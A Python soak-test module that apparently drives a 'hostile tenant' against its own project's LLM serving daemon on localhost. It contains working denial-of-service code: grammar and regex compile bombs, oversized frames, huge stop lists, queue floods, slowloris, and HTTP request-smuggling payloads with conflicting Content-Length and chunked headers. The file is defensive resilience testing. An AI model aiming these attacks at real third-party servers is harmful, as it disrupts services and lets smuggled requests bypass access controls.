"""The hostile tenant's attack kinds (issue 48's findings), each a small request or a small stream
of them from one attacker with its own identity: its own CURVE key at cloudd's ZeroMQ socket
(``FUZZ_ROBOT``, an authorized robot), or the soak's API key at the HTTP API.

| kind | finding | what the attacker sends, until the window ends |
|---|---|---|
| ``ebnf_ambiguous`` | 1 | ``s ::= s s \\| s s s \\| "a" \\| ""``, one request every 2 s |
| ``ebnf_nested_repeats`` | 1 | EBNF of nested ``{0,30}`` repeats, one every 2 s |
| ``schema_nested_pattern`` | 1 | the same nested repeats as a json_schema ``pattern``, one every 2 s |
| ``schema_max_length`` | 1 | a json_schema string of ``maxLength`` 1e6, one every 2 s |
| ``schema_slow_compile`` | 2 | one schema whose ``pattern`` (nested counted repeats) xgrammar would compile for minutes |
| ``big_prompt_frames`` | 3 | ten frames of 131,072 ``prompt_ids``, again every 4 s |
| ``big_resume_frames`` | 3 | ten frames of 131,072 ``resume_token_ids``, again every 4 s |
| ``long_stop_strings`` | 4 | three requests of 64 stops of 15,000 characters, again every 3 s |
| ``safety_long_prompts`` | 5 | three self-declared ``safety`` requests of 7,000-token prompts, again every 4 s |
| ``prompt_quota_bypass`` | 5 | a 7,000-token prompt with ``max_tokens`` 1, every second |
| ``frame_flood`` | 6 | 4,300 small ``generate`` frames at once (toward ``max_waiting``) |
| ``http_slowloris`` | 7 | 256 HTTP connections, each sending one header byte every 3 s |
| ``http_smuggling`` | 7 | duplicate ``Content-Length`` and chunked bodies hiding a second request, 5 a second |

``generate`` frames are built as raw msgpack maps (not ``Generate``), so an attack the client
library refuses today (stops past ``MAX_STOP_CHARS``) still reaches the daemon; cancels are
ordinary ``Cancel`` messages. Every ``generate`` carries a
deadline of ``ATTACK_DEADLINE_MS``; when the window ends the attacker cancels every request it
sent and closes its sockets.
"""

from __future__ import annotations

import functools
import random
import socket
import threading
import time
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field
from typing import Any

import msgpack
import zmq

from shared.protocol.codec import ProtocolError, decode, encode
from shared.protocol.messages import PROTOCOL_VERSION, Cancel, Chunk, Error
from shared.transport.curve import ClientCurve
from soak.probes import dealer

ATTACK_DEADLINE_MS = 15_000
VOCAB = 49_152  # token ids below this: the default model's vocabulary
LONG_PROMPT = "the robot checks the shelf " * 1_400  # about 7,000 tokens
NESTED = "((a|b| ){0,30}){0,30}"  # as a regex (a schema pattern)
AMBIGUOUS_EBNF = 'root ::= s\ns ::= s s | s s s | "a" | ""'
NESTED_EBNF = 'root ::= (("a" | "b" | " "){0,30}){0,30}'  # the same, as EBNF


@dataclass
class AttackCounts:
    """What one attack sent and what came back (``replies``: "result", "error:<code>", "http:<status>")."""

    sent: int = 0
    replies: Counter = field(default_factory=Counter)

    def as_dict(self) -> dict:
        return {"sent": self.sent, "replies": dict(self.replies)}


@dataclass(frozen=True)
class Target:
    """Where the attacker goes, as whom."""

    zmq_endpoint: str
    curve: ClientCurve
    robot: str  # the attacker's key name: its robot_id and request id namespace
    http_port: int
    api_key: str


class ZmqAttacker:
    """A DEALER with the attacker's key: sends raw generate maps, counts replies, cancels at close."""

    def __init__(self, target: Target, counts: AttackCounts):
        self.target, self.counts = target, counts
        self.socket = dealer(target.zmq_endpoint, target.curve, unbounded=True)
        self.request_ids: list[str] = []

    def generate(self, **fields: Any) -> None:
        request_id = f"{self.target.robot}/hostile-{len(self.request_ids)}-{random.getrandbits(32):08x}"
        message = {"v": PROTOCOL_VERSION, "type": "generate", "request_id": request_id, "robot_id": self.target.robot,
                   "deadline_ms": ATTACK_DEADLINE_MS, **fields}
        message.setdefault("messages", [{"role": "user", "content": "Write anything."}])
        self.socket.send(msgpack.packb(message, use_bin_type=True), copy=False)
        self.request_ids.append(request_id)
        self.counts.sent += 1
        self.drain()

    def drain(self) -> None:
        while self.socket.poll(0):
            try:
                reply = decode(self.socket.recv(zmq.NOBLOCK))
            except (ProtocolError, zmq.Again):
                self.counts.replies["undecodable"] += 1
                continue
            if not isinstance(reply, Chunk):
                self.counts.replies[f"error:{reply.code.value}" if isinstance(reply, Error) else reply.TYPE] += 1

    def close(self) -> None:
        for request_id in self.request_ids:
            self.socket.send(encode(Cancel(request_id)))
        time.sleep(0.5)
        self.drain()
        self.socket.close(0)


def _every(seconds: float, send: Callable[[ZmqAttacker], None]) -> Callable[[Target, threading.Event, AttackCounts], None]:
    """An attack that calls ``send`` at once and then every ``seconds`` until stopped."""
    def run(target: Target, stop: threading.Event, counts: AttackCounts) -> None:
        attacker = ZmqAttacker(target, counts)
        try:
            while True:
                send(attacker)
                if _wait_draining(attacker, stop, seconds):
                    return
        finally:
            attacker.close()
    return run


def _wait_draining(attacker: ZmqAttacker, stop: threading.Event, seconds: float) -> bool:
    """Wait ``seconds`` reading replies; True once ``stop`` is set."""
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        if stop.wait(0.1):
            return True
        attacker.drain()
    return stop.is_set()


def _grammar(response_format: dict, max_tokens: int = 256) -> Callable[[ZmqAttacker], None]:
    return lambda a: a.generate(response_format=response_format, sampling={"max_tokens": max_tokens})


def _schema(string_schema: dict) -> dict:
    return {"type": "json_schema", "json_schema": {"name": "x", "schema": {
        "type": "object", "properties": {"note": {"type": "string", **string_schema}}, "required": ["note"]}}}


@functools.cache
def _token_ids() -> list[int]:
    """131,072 seeded token ids, drawn when a big-frame attack first sends (not at import)."""
    rng = random.Random(7)
    return [rng.randrange(VOCAB) for _ in range(1 << 17)]


def _big_frames(field_name: str) -> Callable[[ZmqAttacker], None]:
    def send(a: ZmqAttacker) -> None:
        ids = _token_ids()
        for _ in range(10):
            if field_name == "prompt_ids":
                a.generate(messages=[], prompt_ids=ids, sampling={"max_tokens": 1})
            else:
                a.generate(resume_token_ids=ids, sampling={"max_tokens": 8})
    return send


def _long_stops(a: ZmqAttacker) -> None:
    stops = [chr(0x41 + i % 26) * 15_000 for i in range(64)]
    for _ in range(3):
        a.generate(sampling={"max_tokens": 256, "stop": stops})


def _safety(a: ZmqAttacker) -> None:
    for _ in range(3):
        a.generate(messages=[{"role": "user", "content": LONG_PROMPT}], priority="safety", sampling={"max_tokens": 200})


def _flood(target: Target, stop: threading.Event, counts: AttackCounts) -> None:
    attacker = ZmqAttacker(target, counts)
    try:
        for _ in range(4_300):
            if stop.is_set():
                break
            attacker.generate(sampling={"max_tokens": 1})
        stop.wait()
    finally:
        attacker.close()


# --- HTTP --------------------------------------------------------------------------------------


def _slowloris(target: Target, stop: threading.Event, counts: AttackCounts) -> None:
    """256 connections; each sends its request line, then one header byte every 3 s. A
    connection the server closes is opened again (as a real attacker's would be)."""
    header = b"X-Slow: " + b"a" * 1_000
    conns: list[tuple[socket.socket, int] | None] = [None] * 256
    try:
        while not stop.is_set():
            for i, held in enumerate(conns):
                try:
                    if held is None:
                        conn = socket.create_connection(("127.0.0.1", target.http_port), timeout=2)
                        conn.sendall(b"POST /v1/chat/completions HTTP/1.1\r\n")
                        counts.sent += 1
                        conns[i] = (conn, 0)
                    else:
                        conn, at = held
                        conn.sendall(header[at % len(header):at % len(header) + 1])
                        conns[i] = (conn, at + 1)
                except OSError:
                    counts.replies["closed"] += 1
                    if held is not None:
                        held[0].close()
                    conns[i] = None
            stop.wait(3.0)
    finally:
        for held in conns:
            if held is not None:
                held[0].close()


def _smuggled(target: Target) -> list[bytes]:
    auth = f"Authorization: Bearer {target.api_key}\r\n".encode()
    inner = (b'{"model": "m", "messages": [{"role": "user", "content": "' + LONG_PROMPT[:2_000].encode()
             + b'"}], "max_tokens": 64}')
    second = (b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n" + auth + b"Content-Type: application/json\r\n"
              + f"Content-Length: {len(inner)}\r\n\r\n".encode() + inner)
    head = b"POST /v1/chat/completions HTTP/1.1\r\nHost: x\r\n" + auth + b"Content-Type: application/json\r\n"
    return [
        head + b"Content-Length: 2\r\n" + f"Content-Length: {2 + len(second)}\r\n\r\n".encode() + b"{}" + second,
        head + b"Transfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + second,
        head + b"Transfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + second,
    ]


def _smuggling(target: Target, stop: threading.Event, counts: AttackCounts) -> None:
    payloads = _smuggled(target)
    while not stop.wait(0.2):
        payload = payloads[counts.sent % len(payloads)]
        counts.sent += 1
        try:
            with socket.create_connection(("127.0.0.1", target.http_port), timeout=5) as conn:
                conn.sendall(payload)
                first = conn.recv(64)
            parts = first.split()
            counts.replies[f"http:{parts[1].decode()}" if first.startswith(b"HTTP/") and len(parts) > 1
                           else "closed"] += 1
        except OSError:
            counts.replies["closed"] += 1


@dataclass(frozen=True)
class Attack:
    name: str
    finding: int  # issue 48's finding
    run: Callable[[Target, threading.Event, AttackCounts], None]  # returns once the event is set
    http: bool = False  # an attack on the HTTP API: a tenant's HTTP probes watch it too


ATTACKS: dict[str, Attack] = {a.name: a for a in (
    Attack("ebnf_ambiguous", 1, _every(2.0, _grammar({"type": "ebnf", "ebnf": AMBIGUOUS_EBNF}))),
    Attack("ebnf_nested_repeats", 1, _every(2.0, _grammar({"type": "ebnf", "ebnf": NESTED_EBNF}))),
    Attack("schema_nested_pattern", 1, _every(2.0, _grammar(_schema({"pattern": f"^{NESTED}$"})))),
    Attack("schema_max_length", 1, _every(2.0, _grammar(_schema({"maxLength": 1_000_000})))),
    Attack("big_prompt_frames", 3, _every(4.0, _big_frames("prompt_ids"))),
    Attack("big_resume_frames", 3, _every(4.0, _big_frames("resume_token_ids"))),
    Attack("long_stop_strings", 4, _every(3.0, _long_stops)),
    Attack("safety_long_prompts", 5, _every(4.0, _safety)),
    Attack("prompt_quota_bypass", 5, _every(1.0, lambda a: a.generate(
        messages=[{"role": "user", "content": LONG_PROMPT}], sampling={"max_tokens": 1}))),
    Attack("frame_flood", 6, _flood),
    Attack("http_slowloris", 7, _slowloris, http=True),
    Attack("http_smuggling", 7, _smuggling, http=True),
    # last: a compile nothing can cancel today holds the compile thread past its window
    Attack("schema_slow_compile", 2, _every(600.0, _grammar(_schema({"pattern": "^([a-z ]{0,30}){0,30}$"})))),
)}
